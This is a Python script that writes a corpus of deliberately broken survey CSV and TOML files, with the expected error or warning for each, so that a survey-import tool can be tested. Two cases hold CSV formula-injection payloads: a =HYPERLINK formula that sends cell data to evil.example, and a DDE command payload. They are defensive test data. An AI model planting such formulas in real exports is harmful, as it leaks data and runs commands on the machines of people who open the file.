"""Write the bad-input corpus and its MANIFEST.toml from the bundled sample survey.

Run from the repository root: ``.venv/bin/python tests/data/bad/generate.py``. Every
file is the first rows of ``data/sample_survey.csv`` broken one way, as real exports and
the people handling them break files (Excel re-saves, hand edits, other survey tools,
hostile answers). The two large cases (a 10 MB cell, a 200 MB file) are only described
here: ``benchmarks.hardening_corpus`` writes them at test time, never into the repository.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import xlsxwriter

ROOT = Path(__file__).resolve().parents[3]
HERE = Path(__file__).resolve().parent
REL = HERE.relative_to(ROOT)
CONFIG = "data/sample_program.toml"
PEOPLE = 16  # rows 2-17

# Columns of the sample survey (Google Forms).
EMAIL, NAME, ROLE, GRADE, ZONE, LANGS, EXPERTISE, CAPACITY, FORMAT = 1, 2, 3, 4, 7, 8, 12, 13, 14
PREFERRED, AVOID, MANAGER = 15, 16, 17


@dataclass
class Case:
    id: str
    what: str
    expect: str  # error (exit 1) | warning (exit 0, the message warns) | ok (exit 0)
    message: str
    files: list[str] = field(default_factory=list)
    config: str = CONFIG
    row: int | None = None
    column: str | None = None
    generate: str | None = None

    @property
    def exit(self) -> int:
        return 1 if self.expect == "error" else 0


def base_rows() -> list[list[str]]:
    """The sample's header and first people, with the name lists and managers cleared
    (they name people beyond the excerpt): the clean base reads without a warning."""
    with (ROOT / "data" / "sample_survey.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[: PEOPLE + 1]
    for row in rows[1:]:
        row[PREFERRED] = row[AVOID] = row[MANAGER] = ""
    return rows


def to_csv(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buffer.getvalue()


def with_cell(row: int, column: int, value: str) -> str:
    """The base with one cell replaced (``row`` is the spreadsheet row, header = 1)."""
    rows = base_rows()
    rows[row - 1][column] = value
    return to_csv(rows)


def header(column: int) -> str:
    return base_rows()[0][column]


def workbook(rows: list[list[str]]) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("Form responses 1")
    for r, row in enumerate(rows):
        sheet.write_row(r, 0, row)
    book.close()
    return buffer.getvalue()


def surveymonkey() -> str:
    """Two header rows: the question over its first column, then 'Response' or each
    option's label (a checkbox question spreads over one column per option)."""
    rows = base_rows()
    head, sub = ["Respondent ID", "Collector ID"], ["", ""]
    body: list[list[str]] = [[str(1000 + k), "42"] for k in range(len(rows) - 1)]
    for col, question in enumerate(rows[0]):
        if col == ROLE:
            labels = ["As a mentor", "As a mentee", "Both, mentor and mentee"]
            head += [question, "", ""]
            sub += labels
            for k, row in enumerate(rows[1:]):
                body[k] += [label if row[col] == label else "" for label in labels]
            continue
        head.append(question)
        sub.append("Open-Ended Response" if col in (NAME, EMAIL) else "Response")
        for k, row in enumerate(rows[1:]):
            body[k].append(row[col])
    return to_csv([head, sub, *body])


def qualtrics() -> str:
    """Short names in row 1, question texts in row 2, import ids in row 3."""
    rows = base_rows()
    codes = ["StartDate", "EndDate", "Status", *(f"Q{k}" for k in range(1, len(rows[0]) - 1))]
    texts = ["Start Date", "End Date", "Response Type", *rows[0][2:]]
    texts[1] = "Email Address"
    codes[1] = "RecipientEmail"
    ids = [json.dumps({"ImportId": f"QID{k}"}) for k in range(len(codes))]
    body = [["2026-01-05 09:00:00", row[1], "IP Address", *row[2:]] for row in rows[1:]]
    return to_csv([codes, texts, ids, *body])


def qualtrics_legacy() -> str:
    """The legacy export: V1... codes, question texts in row 2, a BOM, a trailing comma."""
    rows = base_rows()
    codes = ["V1", "V2"] + [f"Q{k}" for k in range(1, len(rows[0]) - 1)]
    texts = ["ResponseID", "Email Address", *rows[0][2:]]
    body = [[f"R_{k:04d}", *row[1:]] for k, row in enumerate(rows[1:])]
    return "\ufeff" + to_csv([[*c, ""] for c in (codes, texts, *body)])


def config(text: str) -> str:
    return (ROOT / CONFIG).read_text(encoding="utf-8") + text


def cases() -> tuple[list[Case], dict[str, bytes]]:
    """Every case, and the bytes of every corpus file by name."""
    files: dict[str, bytes] = {}
    out: list[Case] = []

    def add(case: Case, data: dict[str, bytes | str]) -> None:
        for name, content in data.items():
            files[name] = content.encode("utf-8") if isinstance(content, str) else content
        if not case.files:
            case.files = [f"{REL}/{name}" for name in data if not name.endswith(".toml")]
        tomls = [name for name in data if name.endswith(".toml")]
        if tomls:
            case.config = f"{REL}/{tomls[0]}"
        out.append(case)

    base = to_csv(base_rows())
    rows = base_rows()
    # -- encodings and bytes ------------------------------------------------------------
    add(
        Case("latin1", "Windows-1252 (Latin-1) save with accents", "warning", "not UTF-8"),
        {"latin1.csv": base.replace("Fischer", "Fischér").encode("cp1252")},
    )
    add(
        Case("utf16_le_bom", "UTF-16 LE with BOM (Excel 'Unicode text')", "ok", "ok: 16 people"),
        {"utf16_le_bom.csv": b"\xff\xfe" + base.encode("utf-16-le")},
    )
    add(
        Case("utf16_be_no_bom", "UTF-16 BE without a BOM", "ok", "ok: 16 people"),
        {"utf16_be_no_bom.csv": base.encode("utf-16-be")},
    )
    cut = base.encode("utf-16-le")
    cut = cut[: len(cut) - 2 * len(base.rsplit(",", 8)[-1]) - 1]  # inside the last row
    add(
        Case(
            "utf16_truncated",
            "UTF-16 cut short mid-character (interrupted copy)",
            "error",
            "damaged UTF-16-LE text (byte 9166, line 17",
        ),
        {"utf16_truncated.csv": b"\xff\xfe" + cut},
    )
    add(
        Case("utf32", "UTF-32 with BOM", "ok", "ok: 16 people"),
        {"utf32.csv": base.encode("utf-32")},
    )
    add(
        Case("utf8_bom", "UTF-8 with BOM ('CSV UTF-8' from Excel)", "ok", "ok: 16 people"),
        {"utf8_bom.csv": "\ufeff" + base},
    )
    mixed = base.encode("utf-8").replace(b"Fischer", "Fischér".encode("cp1252"))
    add(
        Case(
            "mixed_encoding",
            "UTF-8 file with one row pasted in as Windows-1252",
            "warning",
            "line 3",
        ),
        {"mixed_encoding.csv": mixed},
    )
    add(
        Case(
            "nul_bytes",
            "a NUL byte inside a name",
            "error",
            "NUL character",
            row=3,
            column=header(NAME),
        ),
        {"nul_bytes.csv": with_cell(3, NAME, "Zoe\x00 Fischer")},
    )
    add(
        Case("binary_garbage", "random binary bytes named .csv", "error", "not a text file"),
        {"binary_garbage.csv": bytes((k * 7919) % 251 for k in range(4000))},
    )
    add(
        Case(
            "xlsx_renamed_csv", "an XLSX workbook renamed .csv", "warning", "a workbook named .csv"
        ),
        {"xlsx_renamed_csv.csv": workbook(rows)},
    )
    add(
        Case("csv_renamed_xlsx", "CSV text renamed .xlsx", "warning", "not a workbook"),
        {"csv_renamed_xlsx.xlsx": base},
    )
    book = workbook(rows)
    add(
        Case(
            "xlsx_truncated",
            "an XLSX cut in half (interrupted download)",
            "error",
            "not a readable XLSX",
        ),
        {"xlsx_truncated.xlsx": book[: len(book) // 2]},
    )
    fake = io.BytesIO()
    with zipfile.ZipFile(fake, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    add(
        Case("zip_not_xlsx", "a ZIP archive that is no workbook", "error", "not a readable XLSX"),
        {"zip_not_xlsx.xlsx": fake.getvalue()},
    )
    add(
        Case("pdf", "a PDF named .csv", "error", "a PDF"),
        {"pdf.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"},
    )
    add(Case("empty", "an empty file (0 bytes)", "error", "file is empty"), {"empty.csv": b""})
    add(
        Case("whitespace_only", "only spaces, tabs and newlines", "error", "file is empty"),
        {"whitespace_only.csv": " \t\n\r\n   \n"},
    )
    add(
        Case("bom_only", "a UTF-8 BOM and nothing else", "error", "file is empty"),
        {"bom_only.csv": b"\xef\xbb\xbf"},
    )
    add(
        Case("header_only", "the header and no answers", "warning", "no answers", row=2),
        {"header_only.csv": to_csv(rows[:1])},
    )
    # -- newlines and delimiters --------------------------------------------------------
    blank = to_csv(rows).replace("\n", "\n\n", 3) + ",,,,\n\n"
    add(
        Case(
            "blank_lines",
            "blank lines and a row of bare commas between answers",
            "ok",
            "ok: 16 people",
        ),
        {"blank_lines.csv": blank},
    )
    add(
        Case("crlf", "Windows CRLF line endings", "ok", "ok: 16 people"),
        {"crlf.csv": to_csv(rows, newline="\r\n")},
    )
    add(
        Case(
            "cr_only", "classic Mac CR-only line endings ('CSV (Macintosh)')", "ok", "ok: 16 people"
        ),
        {"cr_only.csv": to_csv(rows, newline="\r")},
    )
    lines = to_csv(rows).split("\n")
    mixed_nl = "".join(line + ("\r\n", "\n", "\r")[k % 3] for k, line in enumerate(lines[:-1]))
    add(
        Case("mixed_newlines", "LF, CRLF and CR mixed in one file", "ok", "ok: 16 people"),
        {"mixed_newlines.csv": mixed_nl},
    )
    add(
        Case(
            "excel_semicolon",
            "Excel re-save in a European locale: ';', CRLF, Windows-1252",
            "warning",
            "not UTF-8",
        ),
        {
            "excel_semicolon.csv": to_csv(rows, ";", "\r\n")
            .replace("Fischer", "Fischér")
            .encode("cp1252")
        },
    )
    add(
        Case(
            "tab_delimited",
            "tab-separated text (copied out of a spreadsheet)",
            "ok",
            "ok: 16 people",
        ),
        {"tab_delimited.csv": to_csv(rows, "\t")},
    )
    # -- structure ------------------------------------------------------------------------
    ragged = base.replace('"Content marketing, Python"', "Content marketing, Python", 1)
    add(
        Case(
            "ragged_unquoted_comma",
            "an answer with a comma, not quoted (hand edit)",
            "error",
            "21 fields where the header has 20",
            row=3,
            column=header(EXPERTISE),
        ),
        {"ragged_unquoted_comma.csv": ragged},
    )
    many = to_csv(rows[:1]) + to_csv(rows[1:]).replace('"', "")
    add(
        Case(
            "ragged_many_rows",
            "every quote stripped from the answers (a bad export script)",
            "error",
            "26 fields where the header has 20",
            row=14,
        ),
        {"ragged_many_rows.csv": many},
    )
    broken = base.replace(",Zoe Fischer,", ",Zoe\nFischer,", 1)
    add(
        Case(
            "line_break_unquoted",
            "a line break inside an unquoted answer",
            "error",
            "3 fields where the header has 20",
            row=3,
            column=header(ROLE),
        ),
        {"line_break_unquoted.csv": broken},
    )
    add(
        Case(
            "unterminated_quote",
            "a quote that opens and never closes",
            "error",
            "never closes",
            row=PEOPLE + 1,
            column=rows[0][-1],
        ),
        {"unterminated_quote.csv": base[:-1] + '"3\n'},
    )
    add(
        Case(
            "stray_quote",
            "text after a closing quote",
            "error",
            "quotes do not pair up",
            row=3,
            column=header(NAME),
        ),
        {"stray_quote.csv": base.replace(",Zoe Fischer,", ',"Zoe" Fischer,', 1)},
    )
    dup = base.replace(header(5), header(GRADE), 1)
    add(
        Case(
            "duplicate_header",
            "two columns with the same header (a renamed question)",
            "error",
            "[columns] department",
        ),
        {"duplicate_header.csv": dup},
    )
    renamed = base.replace("mentoring programme?", "mentoring program?", 1)
    add(
        Case(
            "missing_column",
            "the roles question missing (renamed in the form)",
            "error",
            "closest: 'How would you like to take part in the mentoring program?'",
        ),
        {"missing_column.csv": renamed},
    )
    long_header = [*rows[0][:-1], "Q" * 40_000]
    add(
        Case(
            "long_header",
            "a header cell of 40,000 characters",
            "error",
            "40,000 characters",
            row=1,
            column="column 20",
        ),
        {"long_header.csv": to_csv([long_header, *rows[1:]])},
    )
    add(
        Case("empty_header", "the header row blank", "error", "header row is empty", row=1),
        {"empty_header.csv": "," * 19 + "\n" + to_csv(rows[1:])},
    )
    add(
        Case(
            "surveymonkey_two_headers",
            "SurveyMonkey export (two header rows), google preset",
            "error",
            "SurveyMonkey",
            row=2,
        ),
        {"surveymonkey_two_headers.csv": surveymonkey()},
    )
    add(
        Case(
            "qualtrics_three_headers",
            "Qualtrics export (three header rows), google preset",
            "warning",
            "a Qualtrics export",
            row=2,
        ),
        {"qualtrics_three_headers.csv": qualtrics()},
    )
    add(
        Case(
            "qualtrics_legacy",
            "legacy Qualtrics export (V1 codes, BOM, trailing comma)",
            "warning",
            "legacy Qualtrics",
            row=2,
        ),
        {"qualtrics_legacy.csv": qualtrics_legacy()},
    )
    # -- values ---------------------------------------------------------------------------
    twice = to_csv([*rows, rows[3]])
    add(
        Case(
            "duplicate_ids", "one person submitted twice", "warning", "duplicate submission", row=18
        ),
        {"duplicate_ids.csv": twice},
    )
    again = list(rows[3])
    again[EMAIL] = "  " + again[EMAIL].upper() + " "
    add(
        Case(
            "duplicate_ids_case",
            "the same email again, in capitals with spaces",
            "warning",
            "duplicate submission",
            row=18,
        ),
        {"duplicate_ids_case.csv": to_csv([*rows, again])},
    )
    add(
        Case(
            "unknown_role",
            "a role label the config does not know",
            "error",
            "unknown role",
            row=3,
            column=header(ROLE),
        ),
        {"unknown_role.csv": with_cell(3, ROLE, "As a sponsor")},
    )
    add(
        Case(
            "negative_capacity",
            "capacity -1",
            "error",
            "capacity must be a whole number",
            row=4,
            column=header(CAPACITY),
        ),
        {"negative_capacity.csv": with_cell(4, CAPACITY, "-1")},
    )
    add(
        Case(
            "text_capacity",
            "capacity 'two'",
            "error",
            "capacity must be a whole number",
            row=4,
            column=header(CAPACITY),
        ),
        {"text_capacity.csv": with_cell(4, CAPACITY, "two")},
    )
    add(
        Case(
            "huge_capacity",
            "capacity 10^20",
            "warning",
            "capacity capped",
            row=4,
            column=header(CAPACITY),
        ),
        {"huge_capacity.csv": with_cell(4, CAPACITY, "1" + "0" * 20)},
    )
    add(
        Case(
            "grade_not_on_ladder",
            "a grade missing from the ladder",
            "error",
            "seniority not on the ladder",
            row=3,
            column=header(GRADE),
        ),
        {"grade_not_on_ladder.csv": with_cell(3, GRADE, "Intern")},
    )
    add(
        Case(
            "manager_not_in_survey",
            "a manager who did not answer the survey",
            "warning",
            "manager: no one in the survey",
            row=3,
            column="manager",
        ),
        {"manager_not_in_survey.csv": with_cell(3, MANAGER, "nobody@example.org")},
    )
    add(
        Case(
            "avoid_self",
            "someone avoiding themselves",
            "warning",
            "names the person themselves",
            row=3,
            column="avoid",
        ),
        {"avoid_self.csv": with_cell(3, AVOID, "Zoe Fischer; zoe.fischer@example.org")},
    )
    add(
        Case(
            "formula_name",
            "a name that is a formula (=HYPERLINK)",
            "warning",
            "spreadsheet formula",
            row=3,
            column=header(NAME),
        ),
        {
            "formula_name.csv": with_cell(
                3, NAME, '=HYPERLINK("http://evil.example/?leak="&A1,"Zoe Fischer")'
            )
        },
    )
    add(
        Case(
            "formula_dde",
            "a DDE payload in a department, @SUM in a language",
            "warning",
            "spreadsheet formula",
            row=4,
            column=header(5),
        ),
        {
            "formula_dde.csv": to_csv(
                [
                    *rows[:3],
                    [*rows[3][:5], "=cmd|' /C calc'!A0", *rows[3][6:8], "@SUM(1+1)", *rows[3][9:]],
                    *rows[4:],
                ]
            )
        },
    )
    add(
        Case(
            "unknown_timezone",
            "a time zone nobody can read",
            "error",
            "unknown time zone",
            row=3,
            column=header(ZONE),
        ),
        {"unknown_timezone.csv": with_cell(3, ZONE, "Mars/Olympus_Mons")},
    )
    add(
        Case(
            "unknown_format",
            "a meeting format the config does not know",
            "error",
            "unknown meeting format",
            row=3,
            column=header(FORMAT),
        ),
        {"unknown_format.csv": with_cell(3, FORMAT, "Carrier pigeon")},
    )
    anon = base_rows()
    anon[2][EMAIL] = anon[2][NAME] = ""
    add(
        Case(
            "no_identity",
            "a row with neither email nor name",
            "error",
            "no email to identify this person",
            row=3,
        ),
        {"no_identity.csv": to_csv(anon)},
    )
    add(
        Case(
            "control_characters",
            "an ANSI escape sequence in a name",
            "warning",
            "control characters removed",
            row=3,
            column=header(NAME),
        ),
        {"control_characters.csv": with_cell(3, NAME, "Zoe \x1b[31mFischer\x1b[0m")},
    )
    padded = [[f"  {cell}  " if cell else "NA" for cell in row] for row in rows[1:]]
    add(
        Case(
            "spaces_and_na",
            "every answer padded with spaces, every blank written NA",
            "ok",
            "ok: 16 people",
        ),
        {"spaces_and_na.csv": to_csv([rows[0], *padded])},
    )
    # -- the program config ---------------------------------------------------------------
    add(
        Case(
            "config_toml_syntax",
            "config: a TOML syntax error",
            "error",
            "not valid TOML",
            files=[f"{REL}/crlf.csv"],
        ),
        {"config_toml_syntax.toml": config("\n[rules\nmin_score = 1\n")},
    )
    add(
        Case(
            "config_bad_type",
            "config: capacity given as text",
            "error",
            "default_capacity: Input should be a valid integer",
            files=[f"{REL}/crlf.csv"],
        ),
        {
            "config_bad_type.toml": config("").replace(
                "default_capacity = 2", 'default_capacity = "two"'
            )
        },
    )
    add(
        Case(
            "config_unknown_key",
            "config: a misspelt key",
            "error",
            "did you mean 'preset'",
            files=[f"{REL}/crlf.csv"],
        ),
        {"config_unknown_key.toml": config("").replace('preset = "google"', 'prest = "google"')},
    )
    add(
        Case(
            "config_unknown_field",
            "config: [columns] maps an unknown field",
            "error",
            "[columns] has unknown field 'grade'",
            files=[f"{REL}/crlf.csv"],
        ),
        {
            "config_unknown_field.toml": config("").replace(
                'seniority = "What is your current grade?"', 'grade = "What is your grade?"'
            )
        },
    )
    add(
        Case(
            "config_missing_ladder",
            "config: no seniority ladder, grades are labels",
            "error",
            "seniority not on the ladder",
            files=[f"{REL}/crlf.csv"],
            row=2,
            column=header(GRADE),
        ),
        {
            "config_missing_ladder.toml": config("").replace(
                'ladder = ["Apprentice", "Associate", "Mid-level", "Senior", "Lead", "Principal", '
                '"Director"]',
                "",
            )
        },
    )
    add(
        Case(
            "config_alias_off_ladder",
            "config: an alias to a grade not on the ladder",
            "error",
            "not in the ladder",
            files=[f"{REL}/crlf.csv"],
        ),
        {
            "config_alias_off_ladder.toml": config("").replace(
                '# aliases = { "Snr" = "Senior" }', 'aliases = { "Snr" = "Senior manager" }'
            )
        },
    )
    add(
        Case(
            "config_bom",
            "config saved with a UTF-8 BOM (Notepad)",
            "ok",
            "ok: 16 people",
            files=[f"{REL}/crlf.csv"],
        ),
        {"config_bom.toml": "\ufeff" + config("")},
    )
    add(
        Case(
            "config_latin1",
            "config saved as Windows-1252",
            "error",
            "not UTF-8 text",
            files=[f"{REL}/crlf.csv"],
        ),
        {"config_latin1.toml": config("").replace("programme", "programmé").encode("cp1252")},
    )
    add(
        Case(
            "config_bad_date",
            "config: reference_date in day/month/year",
            "error",
            "expected a date written YYYY-MM-DD",
            files=[f"{REL}/crlf.csv"],
        ),
        {"config_bad_date.toml": config("").replace('"2026-01-15"', '"15/01/2026"')},
    )
    add(
        Case(
            "config_missing",
            "config path that does not exist",
            "error",
            "config file not found",
            files=[f"{REL}/crlf.csv"],
            config=f"{REL}/no_such_program.toml",
        ),
        {},
    )
    add(
        Case(
            "survey_missing",
            "survey path that does not exist",
            "error",
            "file not found",
            files=[f"{REL}/no_such_survey.csv"],
        ),
        {},
    )
    add(
        Case(
            "survey_is_folder",
            "a folder given as the survey",
            "error",
            "is a folder",
            files=[f"{REL}"],
        ),
        {},
    )
    # -- written at test time (too large to commit) ----------------------------------------
    add(
        Case(
            "cell_10mb",
            "one answer of 10 MB (a runaway paste)",
            "error",
            "characters",
            row=3,
            column=header(NAME),
            generate="cell_10mb",
        ),
        {},
    )
    add(
        Case(
            "file_200mb",
            "a 200 MB file (the wrong export, or an attack)",
            "error",
            "the limit is 50 MB",
            generate="file_200mb",
        ),
        {},
    )
    return out, files


def toml_value(value: object) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, int):
        return str(value)
    return json.dumps(value, ensure_ascii=False)


def manifest(all_cases: list[Case]) -> str:
    lines = [
        "# The bad-input corpus: one [[case]] per broken input. Written by generate.py;",
        "# edit the cases there. expect: error (exit 1, nothing written), warning (exit 0,",
        "# the message is a warning) or ok (exit 0). message: a substring of the line the",
        "# CLI prints, which also names the file and, when given, the row and column.",
        "# generate: written at test time by benchmarks.hardening_corpus (too large to commit).",
        "",
    ]
    for case in all_cases:
        lines.append("[[case]]")
        for name in ("id", "what", "expect", "message", "files", "config", "row", "column",
                     "generate"):  # fmt: skip
            value = getattr(case, name)
            if value is not None:
                lines.append(f"{name} = {toml_value(value)}")
        lines.append(f"exit = {case.exit}")
        lines.append("")
    return "\n".join(lines)


def main() -> None:
    all_cases, files = cases()
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    (HERE / "MANIFEST.toml").write_text(manifest(all_cases), encoding="utf-8")
    print(f"wrote {len(files)} files and {len(all_cases)} cases to {REL}")


if __name__ == "__main__":
    main()
